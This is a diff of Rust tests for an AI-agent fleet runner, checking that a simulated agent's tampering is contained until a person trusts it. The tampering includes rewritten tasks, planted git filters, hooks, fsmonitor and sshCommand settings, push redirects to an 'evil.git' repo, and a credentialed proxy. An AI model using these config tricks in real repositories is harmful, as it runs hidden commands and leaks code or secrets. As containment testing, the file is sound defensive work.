@@ -1,9 +1,11 @@
-//! An agent that changes what its fleet is made of: nothing that runs changes with it, and nothing
-//! of it lands.
+//! An agent that changes what its fleet is made of: nothing that runs changes with it, nothing of
+//! it lands, and nothing is pushed elsewhere.
 
-use super::{FleetWorld, ONE};
+use rustix::process::Signal;
 
-/// The agent of `z` changes the other tasks, the fleet and the list of files for new trees, in the
+use super::{FleetWorld, LONG, ONE};
+
+/// The agent of `z` changes the other tasks, the fleet and the list of files for new clones, in the
 /// folder that it is given.
 fn tampers(folder: &str) -> String {
     format!(
@@ -13,13 +15,18 @@ fn tampers(folder: &str) -> String {
     printf 'setup = "touch $NOTES/evil"\n' > tasks/fleet.toml
     echo secret > .worktreeinclude
     cd - > /dev/null
+    test "{folder}" = . || wait_for seen
 fi
 {ONE}"#
     )
 }
 
-fn world(folder: &str) -> FleetWorld {
-    FleetWorld::new(&tampers(folder))
+/// `folder`, or the repository of the person, is changed while `z` works; `a` waits for its slot.
+fn world(folder: Option<&str>) -> FleetWorld {
+    let world = FleetWorld::new("");
+    let repository = world.sandbox.repository().display().to_string();
+    world
+        .acts(&tampers(folder.unwrap_or(&repository)))
         .tasks(&["a"], "verify = [\"test -e work-a && echo checked >> $NOTES/checked\"]")
         .tasks(&["z"], "priority = 9")
         .terms("slots = 1\nsetup = \"echo set >> $NOTES/set\"")
@@ -34,22 +41,26 @@ fn nothing_changed(world: &FleetWorld) {
     assert!(world.prompt("a", 1).contains("Do task a."), "{}", world.prompt("a", 1));
     assert!(!world.note("evil").exists(), "what an agent wrote has run");
     assert!(world.noted("checked").contains("checked") && world.noted("set").contains("set"));
-    let secret = world.sandbox.root().join("repo.worktrees/fleet/repo/a/secret");
+    let secret = world.clone_of("a").join("secret");
     assert!(!secret.exists(), "a file came along that nobody named");
 }
 
 #[test]
-fn an_agent_that_changes_the_fleet_in_the_main_checkout_changes_nothing_until_a_person_trusts_it() {
-    let world = world("$(git rev-parse --path-format=absolute --git-common-dir)/..").ready();
-    let ran = world.run(&[]);
+fn an_agent_that_changes_the_fleet_in_the_repository_changes_nothing_until_a_person_trusts_it() {
+    let world = world(None).ready();
+    let running = world.start(&[]);
+    // A coordinator that runs looks at the folder every five seconds.
+    world.until("the change is seen", |_| running.stdout().contains("wait for trust"));
+    world.allow("seen");
+    let ran = running.wait(LONG);
     assert_eq!(ran.code(), 0, "{ran:#?}");
     nothing_changed(&world);
-    let told = std::fs::read_to_string(world.sandbox.file("tasks/a.md")).unwrap();
-    assert!(told.contains("Do evil."), "{told}");
+    let task = std::fs::read_to_string(world.sandbox.file("tasks/a.md")).unwrap();
+    assert!(task.contains("Do evil."), "{task}");
 
     let unasked = world.crew(&["fleet", "run", "tasks"]);
     assert_eq!(unasked.code(), 2, "{unasked:#?}");
-    for new in ["touch $NOTES/evil", ".worktreeinclude: secret"] {
+    for new in ["touch $NOTES/evil", ".worktreeinclude"] {
         assert!(unasked.stdout.contains(new), "{new}\n{unasked:#?}");
     }
     nothing_changed(&world);
@@ -57,77 +68,86 @@ fn an_agent_that_changes_the_fleet_in_the_main_checkout_changes_nothing_until_a_
 
 #[test]
 fn a_branch_that_changes_the_fleet_is_not_landed_and_names_the_path() {
-    let world = world(".").shared().ready();
+    let world = world(Some(".")).shared().ready();
     let ran = world.run(&["--land"]);
     assert_eq!(ran.code(), 13, "{ran:#?}");
-    nothing_changed(&world);
     assert_eq!((world.state("z"), world.state("a")), ("blocked".into(), "completed".into()));
+    nothing_changed(&world);
     assert!(world.why("z").contains(".worktreeinclude"), "{}", world.why("z"));
     assert!(world.work("z", "tasks/a.md").contains("Do evil."), "the branch keeps what was done");
     assert!(world.shown("main", "tasks/a.md").contains("Do task a."));
-    assert_eq!(
-        (world.shown("main", "work-a"), world.shown("main", "work-z")),
-        ("1\n".into(), String::new())
-    );
+    assert_eq!(world.shown("main", "work-a"), "1\n");
+    assert_eq!(world.shown("main", "work-z"), "");
 }
 
 #[test]
-fn a_program_that_an_agent_plants_in_the_repositorys_configuration_never_runs() {
-    let plant = "if [ $task = z ]; then
+fn what_an_agent_plants_in_the_persons_configuration_runs_nothing_and_leads_no_push_elsewhere() {
+    let world = FleetWorld::new("").tasks(&["z"], "priority = 9").tasks(&["b"], "");
+    let (hub, evil) = (world.hub().display().to_string(), world.note("evil.git"));
+    let evil = evil.display().to_string();
+    let repository = world.sandbox.repository().display().to_string();
+    let plant = r#"if [ $task = z ]; then
         echo '* filter=evil merge=evil' > .gitattributes
-        git add . && git commit -qm attributes
-        for key in filter.evil.smudge filter.evil.clean merge.evil.driver; do
+        cd "$REPO"
+        for key in filter.evil.smudge filter.evil.clean merge.evil.driver core.sshCommand; do
             git config $key 'touch $NOTES/evil; cat'
         done
-    fi";
-    let world = FleetWorld::new(&format!("{plant}; {ONE}"))
-        .tasks(&["z"], "priority = 9")
-        .tasks(&["a"], "after = [\"z\"]")
-        .tasks(&["b"], "")
-        .terms("slots = 1");
-    let world = world.shared().ready();
-    let ran = world.run(&["--land"]);
-    assert_eq!(ran.code(), 13, "{ran:#?}");
-    assert!(!world.note("evil").exists(), "what an agent planted has run");
-    let states = world.states(&["a", "b", "z"]);
-    assert_eq!(states[1], ("b", "blocked".into()), "{ran:#?}");
-    let why = world.why("b");
-    assert!(why.contains("the setting filter.evil") && why.contains("changed"), "{why}");
-    assert!(world.begun("a").is_empty() && world.begun("b").is_empty());
+        git config "url.$EVIL.insteadOf" "$HUB"
+        git config "url.https://me:secret@$HUB/.insteadOf" "$HUB/"
+        git config http.proxy http://me:secret@evil
+        cd - > /dev/null
+    fi"#;
+    let plant = plant.replace("$REPO", &repository).replace("$HUB", &hub).replace("$EVIL", &evil);
+    let world = world.acts(&format!("{plant}\n{ONE}")).terms("slots = 1").shared().ready();
+    world.sandbox.git(&["init", "--quiet", "--bare", &evil]);
+    let main = world.git_there(&["rev-parse", "main"]);
+    let before = std::fs::read(world.sandbox.file(".git/config")).unwrap();
+    let running = world.start(&["--land"]);
+    world.until("what was planted is named", |_| {
+        running.stdout().contains("changed") && running.stdout().contains("the setting ")
+    });
+    let unchanged = |world: &FleetWorld| {
+        assert!(!world.note("evil").exists(), "what an agent planted has run");
+        assert_eq!(world.sandbox.git(&["-C", &evil, "for-each-ref"]), "", "nothing went there");
+        assert_eq!(world.git_there(&["rev-parse", "main"]), main);
+    };
+    unchanged(&world);
+    running.signal(Signal::INT);
+    running.signal(Signal::INT);
+    running.wait(LONG);
 
-    let unasked = world.crew(&["fleet", "run", "tasks", "--retry"]);
+    let unasked = world.crew(&["fleet", "run", "tasks", "--land"]);
     assert_eq!(unasked.code(), 2, "{unasked:#?}");
-    assert!(unasked.stdout.contains("git's setting filter.evil.smudge"), "{unasked:#?}");
+    for key in ["filter.evil.smudge", &format!("url.{evil}.insteadof"), "http.proxy"] {
+        assert!(unasked.stdout.contains(&format!("git's setting {key}")), "{key}: {unasked:#?}");
+    }
+    assert!(!unasked.stdout.contains("secret"), "{unasked:#?}");
+    unchanged(&world);
+
+    // A person takes it out again.
+    std::fs::write(world.sandbox.file(".git/config"), before).unwrap();
+    let ran = world.run(&["--land"]);
+    assert_eq!(ran.code(), 0, "{ran:#?}");
+    assert_eq!((world.shown("main", "work-z"), world.begun("z")), ("1\n".into(), vec![1]));
+    assert!(!world.note("evil").exists(), "what an agent planted has run");
 }
 
 #[test]
-fn a_setting_that_leads_pushes_elsewhere_is_asked_about_by_its_name_and_not_used_before_that() {
-    let plant = "git config url.\"https://me:secret@$HUB/\".insteadOf \"$HUB/\"
-        git config url.\"$NOTES/evil.git\".insteadOf \"$HUB\"
-        git config http.proxy http://me:secret@evil; git config http.sslVerify false";
-    let world = FleetWorld::new("").tasks(&["a"], "verify = [\"false\"]\nmax-iterations = 1");
-    let hub = world.hub().display().to_string();
-    let agent = format!("{}\n{ONE}", plant.replace("$HUB", &hub));
-    let world = world.acts(&agent).shared().ready();
-    let evil = world.note("evil.git").display().to_string();
-    world.sandbox.git(&["init", "--quiet", "--bare", &evil]);
-    assert_eq!(world.run(&["--push"]).code(), 10);
-    let settings = world.sandbox.crew_home().join("fleets/repo/hub.git/settings");
-    let copied = || std::fs::read_to_string(&settings).unwrap();
-    assert_eq!(copied(), "");
-
-    let unasked = world.crew(&["fleet", "run", "tasks", "--retry"]);
-    assert_eq!(unasked.code(), 2, "{unasked:#?}");
-    for asked in [
-        format!("git's setting url.{evil}.insteadof ("),
-        format!("git's setting url.https://{hub}/.insteadof ("),
-        "git's setting http.proxy (".to_owned(),
-        "git's setting http.sslverify (".to_owned(),
-    ] {
-        assert!(unasked.stdout.contains(&asked), "{asked}\n{unasked:#?}");
-    }
-    assert!(!unasked.stdout.contains("secret"), "{unasked:#?}");
-    assert_eq!(copied(), "");
-    let there = world.sandbox.git(&["-C", &evil, "for-each-ref"]);
-    assert_eq!(there, "", "nothing has gone there");
+fn what_an_agent_plants_in_its_clone_runs_nowhere_else() {
+    let agent = format!(
+        "for key in filter.evil.smudge filter.evil.clean core.fsmonitor core.hooksPath; do
+            git config $key \"touch $NOTES/evil.$task; cat\"
+        done
+        echo '* filter=evil' > .gitattributes
+        printf '#!/bin/sh\\ntouch $NOTES/evil.hook\\n' > .git/hooks/post-checkout
+        chmod +x .git/hooks/post-checkout
+        rm -f \"$NOTES\"/evil.*\n{ONE}"
+    );
+    let world = FleetWorld::new(&agent).tasks(&["a"], "").shared().ready();
+    let ran = world.run(&["--land"]);
+    let evil = std::fs::read_dir(world.note("")).unwrap().flatten();
+    let evil = evil.filter(|it| it.file_name().to_string_lossy().starts_with("evil"));
+    assert_eq!(evil.count(), 0, "what an agent planted has run: {ran:#?}");
+    assert_ne!(world.state("a"), "completed", "its work is in no commit: {ran:#?}");
+    assert_eq!(ran.code(), 13, "{ran:#?}");
 }
